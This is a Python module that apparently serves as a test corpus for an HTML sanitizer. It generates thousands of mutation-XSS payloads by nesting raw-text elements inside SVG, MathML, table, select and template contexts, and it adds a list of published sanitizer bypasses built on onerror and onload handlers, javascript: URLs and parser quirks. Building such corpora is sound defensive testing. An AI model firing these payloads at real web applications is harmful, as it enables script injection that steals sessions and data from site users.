"""Attacks for what reads HTML twice: a parser cleans it, another one, in a browser, understands it otherwise (mXSS)."""

from __future__ import annotations

from itertools import product

_AROUND = (
    *(
        "",
        "<svg>",
        "<math>",
        "<svg></p>",
        "<math></br>",
        "<svg><svg>",
        "<math><svg>",
        "<svg><math>",
        "<svg><foreignObject>",
    ),
    *("<svg><desc>", "<svg><title>", "<math><mi>", "<math><mtext>", "<math><annotation-xml>", "<math><mtext><mglyph>"),
    *("<math><annotation-xml encoding=text/html>", "<math><mtext><table><mglyph>", "<math><mtext><malignmark><mglyph>"),
    *("<form><math><mtext></form><form><mglyph>", "<math><mtext><svg><mtext>", "<svg><annotation-xml><foreignobject>"),
    *(
        "<table>",
        "<table><tr><svg>",
        "<table><caption><math>",
        "<table><select><math>",
        "<select>",
        "<select><option><svg>",
    ),
    *(
        "<select><template>",
        "<template>",
        "<template><svg>",
        "<p><table><svg><p>",
        "<a><table><a><math>",
        "<details><svg>",
    ),
    *("<b><i><form><svg>", "<noscript>", "<body><svg>", "<frameset><svg>", "<button><p><svg>", "<ul><li><math><li>"),
)
"""Where HTML, SVG and MathML meet, and where a parser moves elements elsewhere."""
_READ_OTHERWISE = (
    *(
        "style",
        "xmp",
        "noscript",
        "noembed",
        "noframes",
        "textarea",
        "title",
        "iframe",
        "script",
        "listing",
        "template",
    ),
    *("option", "mglyph", "plaintext", "desc"),
)
"""Elements whose content is text in one place, and elements in another."""
_INSIDE = (
    "<RAW><!--</RAW><img title='--&gt;&lt;img src=x: onerror=CALL&gt;'>",
    "<RAW><a title='</RAW><img src=x: onerror=CALL>'>x</a></RAW>",
    "<RAW></RAW><img src=x: onerror=CALL>",
    "<RAW><img src=x: onerror=CALL></RAW>",
    "<RAW>&lt;/RAW&gt;&lt;img src=x: onerror=CALL&gt;</RAW>",
    "<RAW><![CDATA[</RAW><img src=x: onerror=CALL>]]></RAW>",
    "<RAW><a href='https://a.example/</RAW><svg onload=CALL>'>x</a>",
    "<RAW/><q cite='</RAW>--><svg/onload=CALL>'></RAW>",
)
_PUBLISHED = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x: onerror=CALL&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=CALL>",
    "<math><mtext><table><mglyph><style><math><img src=x: onerror=CALL>",
    "<svg></p><style><a id='</style><img src=x: onerror=CALL>'>",
    "<svg><style><!--</style><a title='--><img src=x: onerror=CALL>'>",
    "<noscript><p title='</noscript><img src=x: onerror=CALL>'>",
    "<svg><p><style><g title='</style><img src=x: onerror=CALL>'>",
    "<svg><annotation-xml><foreignobject><style><!--</style><p id='--><img src=x: onerror=CALL>'>",
    "<math><annotation-xml encoding='text/html'><style><img src=x: onerror=CALL></style></annotation-xml></math>",
    "<svg><foreignobject><math><mi></svg><style><!--</style><img title='--&gt;&lt;img src=x: onerror=CALL&gt;'>",
    "<select><iframe></select><img src=x: onerror=CALL>",
    "<select><style></select><img src=x: onerror=CALL></style>",
    "<table><td><a><table><td></a><img src=x: onerror=CALL>",
    "<img alt='`x` onerror=CALL' src=x:>",
    "<listing>&lt;img src=x: onerror=CALL&gt;</listing>",
    "<xmp><p title='</xmp><svg/onload=CALL>'></xmp>",
    "<template><script>CALL</script></template><template shadowrootmode=open><img src=x: onerror=CALL></template>",
    "<div><template shadowrootmode=open><script>CALL</script></template></div>",
    "<a href='javascript&NewLine;&colon;CALL'>x</a><a href='java&Tab;script:CALL'>x</a>",
    "<svg><a><animate attributeName=href values=javascript:CALL /><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x: onerror=CALL /></svg>#x'>",
    "<!--><img src=x: onerror=CALL>-->",
    "<!---!><img src=x: onerror=CALL>-->",
    "<?xml ><img src=x: onerror=CALL>?>",
    "<!DOCTYPE x [<!ENTITY y '><img src=x: onerror=CALL>'>]>",
    "</ ><img src=x: onerror=CALL>",
    "<img src=x:\0 onerror=CALL>",
    "<\0script>CALL</script><scr\0ipt>CALL</script>",
    "<img src='x:'onerror=CALL>",
    "<p lang='\"><img src=x: onerror=CALL>'>x</p>",
    "<code class='language-\"><img src=x: onerror=CALL>'>x</code>",
    '<time datetime="\'&gt;&lt;img src=x: onerror=CALL&gt;">x</time>',
    "<img src=x: alt='&quot;onerror=CALL x=&quot;'>",
    "<details ontoggle=CALL open><summary onclick=CALL>x</summary></details>",
)
"""What has come through sanitizers of others, and what is made for the attributes that ours keep."""


def mutations(first: int) -> list[str]:
    """All of them, each with its number in place of N, counted from `first`."""
    inside = [text.replace("RAW", name) for name, text in product(_READ_OTHERWISE, _INSIDE)]
    found = dict.fromkeys((*_PUBLISHED, *map("".join, product(_AROUND, inside))))
    return [text.replace("CALL", f"__xss({number})") for number, text in enumerate(found, first)]
